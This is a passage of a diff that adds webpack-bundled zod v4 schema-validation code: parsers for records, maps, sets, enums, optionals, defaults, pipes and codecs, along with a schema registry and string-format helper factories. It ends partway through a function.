+                    if (def.mode === "loose") {
+                        // Pass through unchanged
+                        payload.value[key] = input[key];
+                    }
+                    else if (values) {
+                        unrecognized = unrecognized ?? [];
+                        unrecognized.push(key);
+                    }
+                    else {
+                        // Default "strict" behavior: error on invalid key
+                        payload.issues.push({
+                            code: "invalid_key",
+                            origin: "record",
+                            issues: keyResult.issues.map((iss) => util.finalizeIssue(iss, ctx, core.config())),
+                            input: key,
+                            path: [key],
+                            inst,
+                        });
+                    }
+                    continue;
+                }
+                // the guard above tests the raw input key, but the key schema can normalize an ordinary key into __proto__; re-check the key we actually write under
+                const outKey = keyResult.value;
+                if (outKey === "__proto__")
+                    continue;
+                const result = def.valueType._zod.run({ value: input[key], issues: [] }, ctx);
+                if (result instanceof Promise) {
+                    proms.push(result.then((result) => {
+                        if (result.issues.length) {
+                            payload.issues.push(...util.prefixIssues(key, result.issues));
+                        }
+                        payload.value[outKey] = result.value;
+                    }));
+                }
+                else {
+                    if (result.issues.length) {
+                        payload.issues.push(...util.prefixIssues(key, result.issues));
+                    }
+                    payload.value[outKey] = result.value;
+                }
+            }
+            if (unrecognized && unrecognized.length > 0) {
+                payload.issues.push({
+                    code: "unrecognized_keys",
+                    input,
+                    inst,
+                    keys: unrecognized,
+                    continue: true,
+                });
+            }
+        }
+        if (proms.length) {
+            return Promise.all(proms).then(() => payload);
+        }
+        return payload;
+    };
+})));
+const $ZodMap = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodMap", (inst, def) => {
+    $ZodType.init(inst, def);
+    const memo = core.globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        if (!(input instanceof Map)) {
+            payload.issues.push({
+                expected: "map",
+                code: "invalid_type",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        const proms = [];
+        payload.value = memo ? memo.alloc(inst, payload, new Map(), ctx) : new Map();
+        const abortEarly = ctx?.abortEarly;
+        let seen = payload.issues.length;
+        for (const [key, value] of input) {
+            if (abortEarly && payload.issues.length !== seen) {
+                if (util.aborted(payload, seen))
+                    break;
+                seen = payload.issues.length;
+            }
+            const keyResult = def.keyType._zod.run({ value: key, issues: [] }, ctx);
+            const valueResult = def.valueType._zod.run({ value: value, issues: [] }, ctx);
+            if (keyResult instanceof Promise || valueResult instanceof Promise) {
+                proms.push(Promise.all([keyResult, valueResult]).then(([keyResult, valueResult]) => {
+                    handleMapResult(keyResult, valueResult, payload, key, input, inst, ctx);
+                }));
+            }
+            else {
+                handleMapResult(keyResult, valueResult, payload, key, input, inst, ctx);
+            }
+        }
+        if (proms.length)
+            return Promise.all(proms).then(() => payload);
+        return payload;
+    };
+    capSize(inst, mapSize);
+})));
+function handleMapResult(keyResult, valueResult, final, key, input, inst, ctx) {
+    if (keyResult.issues.length) {
+        if (util.propertyKeyTypes.has(typeof key)) {
+            final.issues.push(...util.prefixIssues(key, keyResult.issues));
+        }
+        else {
+            final.issues.push({
+                code: "invalid_key",
+                origin: "map",
+                input,
+                inst,
+                issues: keyResult.issues.map((iss) => util.finalizeIssue(iss, ctx, core.config())),
+            });
+        }
+    }
+    if (valueResult.issues.length) {
+        if (util.propertyKeyTypes.has(typeof key)) {
+            final.issues.push(...util.prefixIssues(key, valueResult.issues));
+        }
+        else {
+            final.issues.push({
+                origin: "map",
+                code: "invalid_element",
+                input,
+                inst,
+                key: key,
+                issues: valueResult.issues.map((iss) => util.finalizeIssue(iss, ctx, core.config())),
+            });
+        }
+    }
+    final.value.set(keyResult.value, valueResult.value);
+}
+const $ZodSet = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodSet", (inst, def) => {
+    $ZodType.init(inst, def);
+    const memo = core.globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        if (!(input instanceof Set)) {
+            payload.issues.push({
+                input,
+                inst,
+                expected: "set",
+                code: "invalid_type",
+            });
+            return payload;
+        }
+        const proms = [];
+        payload.value = memo ? memo.alloc(inst, payload, new Set(), ctx) : new Set();
+        const abortEarly = ctx?.abortEarly;
+        let seen = payload.issues.length;
+        for (const item of input) {
+            if (abortEarly && payload.issues.length !== seen) {
+                if (util.aborted(payload, seen))
+                    break;
+                seen = payload.issues.length;
+            }
+            const result = def.valueType._zod.run({ value: item, issues: [] }, ctx);
+            if (result instanceof Promise) {
+                proms.push(result.then((result) => handleSetResult(result, payload)));
+            }
+            else
+                handleSetResult(result, payload);
+        }
+        if (proms.length)
+            return Promise.all(proms).then(() => payload);
+        return payload;
+    };
+    capSize(inst, setSize);
+})));
+function handleSetResult(result, final) {
+    if (result.issues.length) {
+        final.issues.push(...result.issues);
+    }
+    final.value.add(result.value);
+}
+const $ZodEnum = /*@__PURE__*/ $constructor("$ZodEnum", (inst, def) => {
+    $ZodType.init(inst, def);
+    const values = getEnumValues(def.entries);
+    const valuesSet = new Set(values);
+    inst._zod.values = valuesSet;
+    defineLazyInternal(inst, "pattern", (zod) => {
+        const patternValues = getEnumValues(zod.def.entries).filter((k) => propertyKeyTypes.has(typeof k));
+        // unmatchable fallback, RE2-safe: an empty alternation would compile to /^()$/, which matches ""
+        return new RegExp(patternValues.length ? `^(${patternValues.map((o) => escapeRegex(o.toString())).join("|")})$` : "^[^\\s\\S]$");
+    });
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (valuesSet.has(input)) {
+            return payload;
+        }
+        payload.issues.push({
+            code: "invalid_value",
+            values,
+            input,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodLiteral = /*@__PURE__*/ $constructor("$ZodLiteral", (inst, def) => {
+    $ZodType.init(inst, def);
+    const values = new Set(def.values);
+    inst._zod.values = values;
+    defineLazyInternal(inst, "pattern", (zod) => {
+        const vals = zod.def.values;
+        // unmatchable fallback, RE2-safe: an empty alternation would compile to /^()$/, which matches ""
+        return new RegExp(vals.length
+            ? `^(${vals
+                .map((o) => typeof o === "string" ? escapeRegex(o) : o ? escapeRegex(o.toString()) : String(o))
+                .join("|")})$`
+            : "^[^\\s\\S]$");
+    });
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (values.has(input)) {
+            return payload;
+        }
+        payload.issues.push({
+            code: "invalid_value",
+            values: def.values,
+            input,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodFile = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodFile", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        // @ts-ignore
+        if (input instanceof File)
+            return payload;
+        payload.issues.push({
+            expected: "file",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodTransform = /*@__PURE__*/ $constructor("$ZodTransform", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.optin = "optional";
+    globalConfig.memoizer?.guard(inst);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            throw new $ZodEncodeError(inst.constructor.name);
+        }
+        const _out = def.transform(payload.value, payload);
+        if (ctx.async) {
+            const output = _out instanceof Promise ? _out : Promise.resolve(_out);
+            return output.then((output) => {
+                payload.value = output;
+                return payload;
+            });
+        }
+        if (_out instanceof Promise) {
+            throw new $ZodAsyncError();
+        }
+        payload.value = _out;
+        return payload;
+    };
+});
+function handleOptionalResult(payload, result) {
+    // A substituting schema that still failed has no usable answer; yield undefined. Its issues are simply dropped: it ran on a payload of its own, so there is no shared array to truncate and nothing of the caller's to lose with it.
+    payload.value = result.issues.length ? undefined : result.value;
+    return payload;
+}
+const $ZodOptional = /*@__PURE__*/ $constructor("$ZodOptional", (inst, def) => {
+    $ZodType.init(inst, def);
+    // .optional() propagates absence rather than substituting for it, so a defaulted inner keeps its rung.
+    defineLazyInternal(inst, "optin", (zod) => zod.def.innerType._zod.optin === "defaulted" ? "defaulted" : "optional");
+    inst._zod.optout = "optional";
+    defineLazyInternal(inst, "values", (zod) => {
+        const values = zod.def.innerType._zod.values;
+        return values ? new Set([...values, undefined]) : undefined;
+    });
+    defineLazyInternal(inst, "pattern", (zod) => {
+        const pattern = zod.def.innerType._zod.pattern;
+        return pattern ? new RegExp(`^(${util_cleanRegex(pattern.source)})?$`) : undefined;
+    });
+    inst._zod.parse = (payload, ctx) => {
+        if (payload.value === undefined) {
+            // Only the top rung substitutes a value for absence; everything else leaves it intact, which is what .optional() means.
+            if (def.innerType._zod.optin !== "defaulted")
+                return payload;
+            // Its own payload, for the same reason $ZodCatch gets one: a pipe forwards an unrecognized key through the caller's issues array, and this must not read that as the substituting schema failing and drop it.
+            const result = def.innerType._zod.run({ value: payload.value, issues: [] }, ctx);
+            if (result instanceof Promise)
+                return result.then((result) => handleOptionalResult(payload, result));
+            return handleOptionalResult(payload, result);
+        }
+        return def.innerType._zod.run(payload, ctx);
+    };
+});
+const $ZodExactOptional = /*@__PURE__*/ $constructor("$ZodExactOptional", (inst, def) => {
+    // Call parent init - inherits optin/optout = "optional"
+    $ZodOptional.init(inst, def);
+    // Override values/pattern to NOT add undefined
+    defineLazyInternal(inst, "values", (zod) => zod.def.innerType._zod.values);
+    defineLazyInternal(inst, "pattern", (zod) => zod.def.innerType._zod.pattern);
+    // Override parse to just delegate (no undefined handling)
+    inst._zod.parse = (payload, ctx) => {
+        return def.innerType._zod.run(payload, ctx);
+    };
+});
+const $ZodNullable = /*@__PURE__*/ $constructor("$ZodNullable", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "optin", (zod) => zod.def.innerType._zod.optin);
+    defineLazyInternal(inst, "optout", (zod) => zod.def.innerType._zod.optout);
+    defineLazyInternal(inst, "pattern", (zod) => {
+        const pattern = zod.def.innerType._zod.pattern;
+        return pattern ? new RegExp(`^(${util_cleanRegex(pattern.source)}|null)$`) : undefined;
+    });
+    defineLazyInternal(inst, "values", (zod) => {
+        return zod.def.innerType._zod.values ? new Set([...zod.def.innerType._zod.values, null]) : undefined;
+    });
+    inst._zod.parse = (payload, ctx) => {
+        // Forward direction (decode): allow null to pass through
+        if (payload.value === null)
+            return payload;
+        return def.innerType._zod.run(payload, ctx);
+    };
+});
+const $ZodDefault = /*@__PURE__*/ $constructor("$ZodDefault", (inst, def) => {
+    $ZodType.init(inst, def);
+    // inst._zod.qin = "true";
+    inst._zod.optin = "defaulted";
+    defineLazyInternal(inst, "values", (zod) => zod.def.innerType._zod.values);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            return def.innerType._zod.run(payload, ctx);
+        }
+        // Forward direction (decode): apply defaults for undefined input
+        if (payload.value === undefined) {
+            payload.value = def.defaultValue;
+            /**
+             * $ZodDefault returns the default value immediately in forward direction.
+             * It doesn't pass the default value into the validator ("prefault"). There's no reason to pass the default value through validation. The validity of the default is enforced by TypeScript statically. Otherwise, it's the responsibility of the user to ensure the default is valid. In the case of pipes with divergent in/out types, you can specify the default on the `in` schema of your ZodPipe to set a "prefault" for the pipe.   */
+            return payload;
+        }
+        // Forward direction: continue with default handling
+        const result = def.innerType._zod.run(payload, ctx);
+        if (result instanceof Promise) {
+            return result.then((result) => handleDefaultResult(result, def));
+        }
+        return handleDefaultResult(result, def);
+    };
+});
+function handleDefaultResult(payload, def) {
+    if (payload.value === undefined) {
+        payload.value = def.defaultValue;
+    }
+    return payload;
+}
+const $ZodPrefault = /*@__PURE__*/ $constructor("$ZodPrefault", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.optin = "defaulted";
+    defineLazyInternal(inst, "values", (zod) => zod.def.innerType._zod.values);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            return def.innerType._zod.run(payload, ctx);
+        }
+        // Forward direction (decode): apply prefault for undefined input
+        if (payload.value === undefined) {
+            payload.value = def.defaultValue;
+        }
+        return def.innerType._zod.run(payload, ctx);
+    };
+});
+const $ZodNonOptional = /*@__PURE__*/ $constructor("$ZodNonOptional", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "values", (zod) => {
+        const v = zod.def.innerType._zod.values;
+        return v ? new Set([...v].filter((x) => x !== undefined)) : undefined;
+    });
+    inst._zod.parse = (payload, ctx) => {
+        const result = def.innerType._zod.run(payload, ctx);
+        if (result instanceof Promise) {
+            return result.then((result) => handleNonOptionalResult(result, inst));
+        }
+        return handleNonOptionalResult(result, inst);
+    };
+});
+function handleNonOptionalResult(payload, inst) {
+    if (!payload.issues.length && payload.value === undefined) {
+        payload.issues.push({
+            code: "invalid_type",
+            expected: "nonoptional",
+            input: payload.value,
+            inst,
+        });
+    }
+    return payload;
+}
+const $ZodSuccess = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodSuccess", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            throw new core.$ZodEncodeError("ZodSuccess");
+        }
+        const result = def.innerType._zod.run(payload, ctx);
+        if (result instanceof Promise) {
+            return result.then((result) => {
+                payload.value = result.issues.length === 0;
+                return payload;
+            });
+        }
+        payload.value = result.issues.length === 0;
+        return payload;
+    };
+})));
+function handleCatchResult(payload, result, def, ctx) {
+    if (!result.issues.length) {
+        payload.value = result.value;
+        // The value carries up, so the flag describing it has to carry with it: a back-edge into a node still being parsed must not be frozen by an enclosing readonly, and its checks belong to the node itself. Guarded so the ordinary case adds no own property.
+        if (result.memo)
+            payload.memo = true;
+        return payload;
+    }
+    // Spread the inner's own payload, not ours: `value` has to stay the input the catch was handed, and the inner ran on a payload of its own so its issues are already private to this call.
+    payload.value = def.catchValue({
+        ...result,
+        value: payload.value,
+        error: {
+            issues: result.issues.map((iss) => finalizeIssue(iss, ctx, config())),
+        },
+        input: payload.value,
+    });
+    return payload;
+}
+const $ZodCatch = /*@__PURE__*/ $constructor("$ZodCatch", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "optin", (zod) => zod.def.innerType._zod.optin === "defaulted" ? "defaulted" : "optional");
+    defineLazyInternal(inst, "optout", (zod) => zod.def.innerType._zod.optout);
+    defineLazyInternal(inst, "values", (zod) => zod.def.innerType._zod.values);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            return def.innerType._zod.run(payload, ctx);
+        }
+        // Forward direction (decode): apply catch logic
+        const result = def.innerType._zod.run({ value: payload.value, issues: [] }, ctx);
+        if (result instanceof Promise) {
+            return result.then((result) => handleCatchResult(payload, result, def, ctx));
+        }
+        return handleCatchResult(payload, result, def, ctx);
+    };
+});
+const $ZodNaN = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodNaN", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        if (typeof payload.value !== "number" || !Number.isNaN(payload.value)) {
+            payload.issues.push({
+                input: payload.value,
+                inst,
+                expected: "nan",
+                code: "invalid_type",
+            });
+            return payload;
+        }
+        return payload;
+    };
+})));
+const $ZodPipe = /*@__PURE__*/ $constructor("$ZodPipe", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "values", (zod) => zod.def.in._zod.values);
+    defineLazyInternal(inst, "optin", (zod) => zod.def.in._zod.optin);
+    defineLazyInternal(inst, "optout", (zod) => zod.def.out._zod.optout);
+    defineLazyInternal(inst, "propValues", (zod) => zod.def.in._zod.propValues);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            const right = def.out._zod.run(payload, ctx);
+            if (right instanceof Promise) {
+                return right.then((right) => handlePipeResult(right, def.in, ctx));
+            }
+            return handlePipeResult(right, def.in, ctx);
+        }
+        const left = def.in._zod.run(payload, ctx);
+        if (left instanceof Promise) {
+            return left.then((left) => handlePipeResult(left, def.out, ctx));
+        }
+        return handlePipeResult(left, def.out, ctx);
+    };
+});
+function handlePipeResult(left, next, ctx) {
+    // Any issue stops the pipe, so a failing refinement never feeds its transform. An unrecognized key is the exception: it describes the input's extra properties, not the value being piped, and an enclosing intersection may yet reconcile it.
+    if (left.issues.some((iss) => iss.code !== "unrecognized_keys")) {
+        // prevent further checks
+        left.aborted = true;
+        return left;
+    }
+    return next._zod.run({ value: left.value, issues: left.issues }, ctx);
+}
+const $ZodCodec = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCodec", (inst, def) => {
+    $ZodType.init(inst, def);
+    util.defineLazyInternal(inst, "values", (zod) => zod.def.in._zod.values);
+    util.defineLazyInternal(inst, "optin", (zod) => zod.def.in._zod.optin);
+    util.defineLazyInternal(inst, "optout", (zod) => zod.def.out._zod.optout);
+    util.defineLazyInternal(inst, "propValues", (zod) => zod.def.in._zod.propValues);
+    inst._zod.parse = (payload, ctx) => {
+        const direction = ctx.direction || "forward";
+        if (direction === "forward") {
+            const left = def.in._zod.run(payload, ctx);
+            if (left instanceof Promise) {
+                return left.then((left) => handleCodecAResult(left, def, ctx));
+            }
+            return handleCodecAResult(left, def, ctx);
+        }
+        else {
+            const right = def.out._zod.run(payload, ctx);
+            if (right instanceof Promise) {
+                return right.then((right) => handleCodecAResult(right, def, ctx));
+            }
+            return handleCodecAResult(right, def, ctx);
+        }
+    };
+})));
+function handleCodecAResult(result, def, ctx) {
+    if (result.issues.length) {
+        // prevent further checks
+        result.aborted = true;
+        return result;
+    }
+    const direction = ctx.direction || "forward";
+    if (direction === "forward") {
+        const transformed = def.transform(result.value, result);
+        if (transformed instanceof Promise) {
+            return transformed.then((value) => handleCodecTxResult(result, value, def.out, ctx));
+        }
+        return handleCodecTxResult(result, transformed, def.out, ctx);
+    }
+    else {
+        const transformed = def.reverseTransform(result.value, result);
+        if (transformed instanceof Promise) {
+            return transformed.then((value) => handleCodecTxResult(result, value, def.in, ctx));
+        }
+        return handleCodecTxResult(result, transformed, def.in, ctx);
+    }
+}
+function handleCodecTxResult(left, value, nextSchema, ctx) {
+    // Check if transform added any issues
+    if (left.issues.length) {
+        left.aborted = true;
+        return left;
+    }
+    return nextSchema._zod.run({ value, issues: left.issues }, ctx);
+}
+const $ZodPreprocess = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodPreprocess", (inst, def) => {
+    $ZodPipe.init(inst, def);
+})));
+const $ZodReadonly = /*@__PURE__*/ $constructor("$ZodReadonly", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "propValues", (zod) => zod.def.innerType._zod.propValues);
+    defineLazyInternal(inst, "values", (zod) => zod.def.innerType._zod.values);
+    defineLazyInternal(inst, "optin", (zod) => zod.def.innerType?._zod?.optin);
+    defineLazyInternal(inst, "optout", (zod) => zod.def.innerType?._zod?.optout);
+    inst._zod.parse = (payload, ctx) => {
+        if (ctx.direction === "backward") {
+            return def.innerType._zod.run(payload, ctx);
+        }
+        const result = def.innerType._zod.run(payload, ctx);
+        if (result instanceof Promise) {
+            return result.then(handleReadonlyResult);
+        }
+        return handleReadonlyResult(result);
+    };
+});
+function handleReadonlyResult(payload) {
+    // A repeat visit hands back a node that is still being built; freezing it here would make the rest of its keys fail to assign.
+    if (!payload.memo)
+        payload.value = Object.freeze(payload.value);
+    return payload;
+}
+// a leaf's pattern source with its own checks folded in: the last pattern-carrying check wins, else length bounds narrow the catch-all, else an integer format narrows the number form. the fold lives here instead of on `_zod.pattern` so a bundle without template literals never pays for it
+function leafPattern(schema) {
+    const def = schema._zod.def;
+    let pattern = def.pattern;
+    let isInt = !!def.format?.includes("int");
+    let minimum;
+    let maximum;
+    for (const ch of def.checks ?? []) {
+        const d = ch._zod.def;
+        if (d.pattern)
+            pattern = d.pattern;
+        isInt || (isInt = !!d.format?.includes("int"));
+        const lo = d.minimum ?? d.length;
+        const hi = d.maximum ?? d.length;
+        if (lo !== undefined && (minimum === undefined || lo > minimum))
+            minimum = lo;
+        if (hi !== undefined && (maximum === undefined || hi < maximum))
+            maximum = hi;
+    }
+    if (pattern)
+        return pattern.source;
+    // an empty range matches nothing at runtime, and `{8,5}` is not a legal quantifier
+    if (minimum !== undefined && maximum !== undefined && minimum > maximum)
+        return "(?!)";
+    if (minimum !== undefined || maximum !== undefined)
+        return regexes.string({ minimum, maximum }).source;
+    const own = schema._zod.pattern;
+    return (isInt && own === regexes.number ? regexes.integer : own)?.source;
+}
+// a part's pattern source. a wrapper's pattern embeds its inner pattern's source verbatim, so the folded form is substituted in place without knowing the wrapper's own composition; a union's options are joined the way the union builds its own pattern
+function partPattern(schema) {
+    const def = schema._zod.def;
+    const own = schema._zod.pattern?.source;
+    // lazy resolves its inner on the internals, not the def
+    const inner = def.innerType ?? schema._zod.innerType;
+    if (inner) {
+        const before = inner._zod.pattern?.source;
+        const after = partPattern(inner);
+        if (own && before && after && after !== before) {
+            return own.replace(util.cleanRegex(before), () => util.cleanRegex(after));
+        }
+        return own;
+    }
+    if (def.options) {
+        const sources = def.options.map(partPattern);
+        if (sources.every(Boolean))
+            return `^(${sources.map((s) => util.cleanRegex(s)).join("|")})$`;
+    }
+    return leafPattern(schema);
+}
+const $ZodTemplateLiteral = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodTemplateLiteral", (inst, def) => {
+    $ZodType.init(inst, def);
+    const regexParts = [];
+    for (const part of def.parts) {
+        if (typeof part === "object" && part !== null) {
+            // is Zod schema
+            const source = partPattern(part);
+            if (!source) {
+                throw new Error(`Invalid template literal part, no pattern found: ${[...part._zod.traits].shift()}`);
+            }
+            regexParts.push(util.cleanRegex(source));
+        }
+        else if (part === null || util.primitiveTypes.has(typeof part)) {
+            regexParts.push(util.escapeRegex(`${part}`));
+        }
+        else {
+            throw new Error(`Invalid template literal part: ${part}`);
+        }
+    }
+    inst._zod.pattern = new RegExp(`^${regexParts.join("")}$`);
+    inst._zod.parse = (payload, _ctx) => {
+        if (typeof payload.value !== "string") {
+            payload.issues.push({
+                input: payload.value,
+                inst,
+                expected: "string",
+                code: "invalid_type",
+            });
+            return payload;
+        }
+        inst._zod.pattern.lastIndex = 0;
+        if (!inst._zod.pattern.test(payload.value)) {
+            payload.issues.push({
+                input: payload.value,
+                inst,
+                code: "invalid_format",
+                format: def.format ?? "template_literal",
+                pattern: inst._zod.pattern.source,
+            });
+            return payload;
+        }
+        return payload;
+    };
+})));
+const $ZodFunction = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodFunction", (inst, def) => {
+    $ZodType.init(inst, def);
+    // Defined, not assigned: the classic prototype exposes `_def` as a getter with no setter.
+    Object.defineProperty(inst, "_def", { value: def });
+    inst._zod.def = def;
+    inst.implement = (func) => {
+        if (typeof func !== "function") {
+            throw new Error("implement() must be called with a function");
+        }
+        // Defined inline so the closure stays anonymous: binding it to a `const` first names it, which costs 256 bytes per implemented function.
+        return Object.defineProperty(function (...args) {
+            const parsedArgs = inst._def.input ? parse(inst._def.input, args) : args;
+            const result = Reflect.apply(func, this, parsedArgs);
+            if (inst._def.output) {
+                return parse(inst._def.output, result);
+            }
+            return result;
+        }, "_zod", { value: inst._zod, enumerable: false });
+    };
+    inst.implementAsync = (func) => {
+        if (typeof func !== "function") {
+            throw new Error("implementAsync() must be called with a function");
+        }
+        return Object.defineProperty(async function (...args) {
+            const parsedArgs = inst._def.input ? await parseAsync(inst._def.input, args) : args;
+            const result = await Reflect.apply(func, this, parsedArgs);
+            if (inst._def.output) {
+                return await parseAsync(inst._def.output, result);
+            }
+            return result;
+        }, "_zod", { value: inst._zod, enumerable: false });
+    };
+    inst._zod.parse = (payload, _ctx) => {
+        if (typeof payload.value !== "function") {
+            payload.issues.push({
+                code: "invalid_type",
+                expected: "function",
+                input: payload.value,
+                inst,
+            });
+            return payload;
+        }
+        // Check if output is a promise type to determine if we should use async implementation
+        const hasPromiseOutput = inst._def.output && inst._def.output._zod.def.type === "promise";
+        if (hasPromiseOutput) {
+            payload.value = inst.implementAsync(payload.value);
+        }
+        else {
+            payload.value = inst.implement(payload.value);
+        }
+        return payload;
+    };
+    inst.input = (...args) => {
+        const F = inst.constructor;
+        if (Array.isArray(args[0])) {
+            return new F({
+                type: "function",
+                input: new $ZodTuple({
+                    type: "tuple",
+                    items: args[0],
+                    rest: args[1],
+                }),
+                output: inst._def.output,
+            });
+        }
+        return new F({
+            type: "function",
+            input: args[0],
+            output: inst._def.output,
+        });
+    };
+    inst.output = (output) => {
+        const F = inst.constructor;
+        return new F({
+            type: "function",
+            input: inst._def.input,
+            output,
+        });
+    };
+    return inst;
+})));
+const $ZodPromise = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodPromise", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, ctx) => {
+        return Promise.resolve(payload.value).then((inner) => def.innerType._zod.run({ value: inner, issues: [] }, ctx));
+    };
+})));
+const $ZodLazy = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodLazy", (inst, def) => {
+    $ZodType.init(inst, def);
+    // Cache the resolved inner type on the shared `def` so all clones of this lazy (e.g. via `.describe()`/`.meta()`) share the same inner instance, preserving identity for cycle detection on recursive schemas.
+    util.defineLazy(inst._zod, "innerType", () => {
+        const d = def;
+        if (!d._cachedInner)
+            d._cachedInner = def.getter();
+        return d._cachedInner;
+    });
+    util.defineLazyInternal(inst, "pattern", (zod) => zod.innerType?._zod?.pattern);
+    util.defineLazyInternal(inst, "propValues", (zod) => zod.innerType?._zod?.propValues);
+    util.defineLazyInternal(inst, "optin", (zod) => zod.innerType?._zod?.optin ?? undefined);
+    util.defineLazyInternal(inst, "optout", (zod) => zod.innerType?._zod?.optout ?? undefined);
+    inst._zod.parse = (payload, ctx) => {
+        const inner = inst._zod.innerType;
+        return inner._zod.run(payload, ctx);
+    };
+})));
+const $ZodCustom = /*@__PURE__*/ $constructor("$ZodCustom", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _) => {
+        return payload;
+    };
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const r = def.fn(input);
+        if (r instanceof Promise) {
+            return r.then((r) => handleRefineResult(r, payload, input, inst));
+        }
+        handleRefineResult(r, payload, input, inst);
+        return;
+    };
+});
+function handleRefineResult(result, payload, input, inst) {
+    if (!result) {
+        const _iss = {
+            code: "custom",
+            input,
+            inst, // incorporates params.error into issue reporting
+            path: [...(inst._zod.def.path ?? [])], // incorporates params.error into issue reporting
+            continue: !inst._zod.def.abort,
+            // params: inst._zod.def.params,
+        };
+        if (inst._zod.def.params)
+            _iss.params = inst._zod.def.params;
+        payload.issues.push(util_issue(_iss));
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/registries.js
+var registries_a;
+const $output = /*@__PURE__*/ (/* unused pure expression or super */ null && (Symbol("ZodOutput")));
+const $input = /*@__PURE__*/ (/* unused pure expression or super */ null && (Symbol("ZodInput")));
+class $ZodRegistry {
+    constructor() {
+        this._map = new WeakMap();
+        this._idmap = new Map();
+    }
+    add(schema, ..._meta) {
+        const meta = _meta[0];
+        this._map.set(schema, meta);
+        if (meta && typeof meta === "object" && "id" in meta) {
+            this._idmap.set(meta.id, schema);
+        }
+        return this;
+    }
+    clear() {
+        this._map = new WeakMap();
+        this._idmap = new Map();
+        return this;
+    }
+    remove(schema) {
+        const meta = this._map.get(schema);
+        if (meta && typeof meta === "object" && "id" in meta) {
+            this._idmap.delete(meta.id);
+        }
+        this._map.delete(schema);
+        return this;
+    }
+    get(schema) {
+        // return this._map.get(schema) as any;
+        // inherit metadata
+        const p = schema._zod.parent;
+        if (p) {
+            const pm = { ...(this.get(p) ?? {}) };
+            delete pm.id; // do not inherit id
+            const f = { ...pm, ...this._map.get(schema) };
+            return Object.keys(f).length ? f : undefined;
+        }
+        return this._map.get(schema);
+    }
+    has(schema) {
+        return this._map.has(schema);
+    }
+}
+// registries
+function registry() {
+    return new $ZodRegistry();
+}
+(registries_a = globalThis).__zod_globalRegistry ?? (registries_a.__zod_globalRegistry = registry());
+const globalRegistry = globalThis.__zod_globalRegistry;
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/api.js
+
+
+
+
+function snapshotChecks(def) {
+    if (def.checks)
+        def.checks = [...def.checks];
+    return def;
+}
+// @__NO_SIDE_EFFECTS__
+function _string(Class, params) {
+    return new Class(snapshotChecks({ type: "string", ...normalizeParams(params) }));
+}
+// @__NO_SIDE_EFFECTS__
+function _coercedString(Class, params) {
+    return new Class(snapshotChecks({ type: "string", coerce: true, ...util.normalizeParams(params) }));
+}
+// @__NO_SIDE_EFFECTS__
+function _email(Class, params) {
+    return new Class({
+        type: "string",
+        format: "email",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _guid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "guid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uuid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "uuid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uuidv4(Class, params) {
+    return new Class({
+        type: "string",
+        format: "uuid",
+        check: "string_format",
+        abort: false,
+        version: "v4",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uuidv6(Class, params) {
+    return new Class({
+        type: "string",
+        format: "uuid",
+        check: "string_format",
+        abort: false,
+        version: "v6",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uuidv7(Class, params) {
+    return new Class({
+        type: "string",
+        format: "uuid",
